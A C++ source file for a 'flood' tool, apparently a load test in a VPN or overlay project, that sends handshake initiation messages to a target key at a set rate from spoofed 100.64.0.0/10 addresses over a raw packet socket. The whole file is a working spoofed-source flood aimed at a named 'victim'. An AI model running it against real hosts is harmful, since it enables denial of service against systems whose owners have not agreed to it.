// Sends first messages of handshakes from spoofed addresses, at a steady rate:
//
//   flood DEVICE ROUTER-MAC TARGET:PORT PUBLIC-KEY valid|invalid RATE SECONDS
//
// The messages are a stranger's, but real ones, so that a victim that looks into them pays in full; "invalid"
// ones have a wrong mac1. Their sources are random addresses of 100.64.0.0/10 and random ports, a new one for
// each. They leave by an AF_PACKET socket in batches of a millisecond's worth, whatever the routes say. At
// the end: how many were sent, and the processor time that it took.
#include <algorithm>
#include <array>
#include <charconv>
#include <chrono>
#include <cstring>
#include <ctime>
#include <random>
#include <stdexcept>
#include <string>
#include <vector>

#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <sys/socket.h>

#include <fmt/format.h>

#include "overlay/handshake.h"
#include "overlay/random.h"
#include "vswitch/address.h"
#include "vswitch/checksum.h"
#include "vswitch/system.h"
#include "vswitch/wire.h"

namespace {

using namespace weft;
using Bytes = std::vector<std::uint8_t>;

constexpr std::size_t distinct_messages = 1024;

struct Header {  // IPv4 and UDP
    std::uint8_t version_length = 0x45;
    std::uint8_t service = 0;
    be16 total_size;
    be16 id;
    be16 fragment;
    std::uint8_t ttl = 64;
    std::uint8_t protocol = 17;
    be16 checksum;
    be32 source;
    be32 destination;
    be16 source_port;
    be16 destination_port;
    be16 udp_size;
    be16 udp_checksum;  // none (RFC 768)
};

static_assert(sizeof(Header) == 28);

std::uint32_t number(const IpAddress& address) {
    be32 value;
    std::memcpy(&value, address.bytes().data(), sizeof value);
    return value;
}

void set_checksum(Header& header) {
    header.checksum = ipv4_header_checksum({reinterpret_cast<const std::uint8_t*>(&header), 20});
}

// A stranger's first messages to the owner of the key, each another one.
std::vector<Bytes> first_messages(const PublicKey& victim, const Endpoint& target) {
    constexpr PeerId peer{0};
    SystemRandom random;
    PrivateKey identity;
    random.fill(identity.writable());
    Handshaker stranger{identity, random};
    std::vector<Bytes> messages;
    const auto wall = std::chrono::system_clock::now();
    while (messages.size() < distinct_messages) {
        stranger.add_peer(peer, {.public_key = victim, .preshared_key = {}, .endpoint = target});
        stranger.initiate(peer, Instant{}, wall);
        for (auto& action : stranger.take_actions())
            if (auto* send = std::get_if<Handshaker::Send>(&action))
                messages.push_back(std::move(send->datagram));
    }
    return messages;
}

class Flood {
  public:
    Flood(const std::string& device, const MacAddress& router, const Endpoint& target,
          std::vector<Bytes> messages)
        : socket_(::socket(AF_PACKET, SOCK_DGRAM, 0)), target_(target), messages_(std::move(messages)) {
        if (!socket_) throw_system_error("packet socket", errno, "run as root");
        to_.sll_family = AF_PACKET;
        to_.sll_protocol = ::htons(ETHERTYPE_IP);
        to_.sll_ifindex = static_cast<int>(::if_nametoindex(device.c_str()));
        to_.sll_halen = 6;
        std::ranges::copy(router.octets, to_.sll_addr);
        if (to_.sll_ifindex == 0) throw_system_error("device " + device, errno);
    }

    std::size_t send(std::size_t count) {
        headers_.resize(count);
        parts_.resize(count);
        batch_.resize(count);
        for (std::size_t i = 0; i < count; ++i) prepare(i);
        std::size_t sent = 0;
        while (sent < count) {
            const int taken =
                ::sendmmsg(socket_.get(), &batch_[sent], static_cast<unsigned>(count - sent), 0);
            if (taken <= 0) break;
            sent += static_cast<std::size_t>(taken);
        }
        return sent;
    }

  private:
    void prepare(std::size_t i) {
        auto& message = messages_[next_++ % messages_.size()];
        auto& header = headers_[i] = Header{};
        const auto size = static_cast<std::uint16_t>(message.size());
        header.total_size = static_cast<std::uint16_t>(sizeof(Header) + size);
        header.source = (100U << 24U | 64U << 16U) + (random_() & 0x3FFFFFU);
        header.destination = number(target_.address);
        header.source_port = static_cast<std::uint16_t>(1024 + random_() % 60000);
        header.destination_port = target_.port;
        header.udp_size = static_cast<std::uint16_t>(8 + size);
        set_checksum(header);
        parts_[i] = {iovec{&header, sizeof header}, iovec{message.data(), message.size()}};
        batch_[i].msg_hdr = {};
        batch_[i].msg_hdr.msg_name = &to_;
        batch_[i].msg_hdr.msg_namelen = sizeof to_;
        batch_[i].msg_hdr.msg_iov = parts_[i].data();
        batch_[i].msg_hdr.msg_iovlen = parts_[i].size();
    }

    Descriptor socket_;
    Endpoint target_;
    std::vector<Bytes> messages_;
    sockaddr_ll to_{};
    std::mt19937 random_{std::random_device{}()};
    std::size_t next_ = 0;
    std::vector<Header> headers_;
    std::vector<std::array<iovec, 2>> parts_;
    std::vector<mmsghdr> batch_;
};

std::size_t parse_number(const std::string& text) {
    std::size_t value = 0;
    const auto [end, error] = std::from_chars(text.data(), text.data() + text.size(), value);
    if (error != std::errc{} || end != text.data() + text.size())
        throw std::runtime_error(text + " is not a number");
    return value;
}

timespec after(timespec start, std::chrono::nanoseconds elapsed) {
    const auto total = std::chrono::nanoseconds{start.tv_nsec} + elapsed;
    start.tv_sec += std::chrono::floor<std::chrono::seconds>(total).count();
    start.tv_nsec = (total % std::chrono::seconds{1}).count();
    return start;
}

void run(const std::vector<std::string>& arguments) {
    if (arguments.size() != 7)
        throw std::runtime_error(
            "usage: flood DEVICE ROUTER-MAC TARGET:PORT PUBLIC-KEY valid|invalid RATE SECONDS");
    const auto router = MacAddress::parse(arguments[1]);
    const auto target = Endpoint::parse(arguments[2]);
    const auto victim = PublicKey::parse(arguments[3]);
    const auto rate = parse_number(arguments[5]);
    const auto milliseconds = parse_number(arguments[6]) * 1000;
    if (!router || !target || !victim) throw std::runtime_error("no such address or key");
    auto messages = first_messages(*victim, *target);
    if (arguments[4] == "invalid")
        for (auto& message : messages) message[message.size() - 20] ^= 1U;  // in mac1
    Flood flood{arguments[0], *router, *target, std::move(messages)};

    timespec start{};
    ::clock_gettime(CLOCK_MONOTONIC, &start);
    std::size_t due = 0;
    std::size_t sent = 0;
    for (std::size_t tick = 1; tick <= milliseconds; ++tick) {
        const auto until = rate * tick / 1000;
        sent += flood.send(until - due);
        due = until;
        const auto next = after(start, std::chrono::milliseconds{tick});
        while (::clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next, nullptr) == EINTR) {
        }
    }
    timespec end{};
    ::clock_gettime(CLOCK_MONOTONIC, &end);
    const auto seconds = static_cast<double>(end.tv_sec - start.tv_sec) +
                         static_cast<double>(end.tv_nsec - start.tv_nsec) * 1e-9;
    fmt::print("{} sent, {:.0f} a second, {:.2f} s of processor time\n", sent,
               static_cast<double>(sent) / seconds, static_cast<double>(std::clock()) / CLOCKS_PER_SEC);
}

}  // namespace

int main(int argc, char** argv) {
    try {
        run({argv + 1, argv + argc});
        return 0;
    } catch (const std::exception& error) {
        fmt::print(stderr, "flood: {}\n", error.what());
        return 1;
    }
}
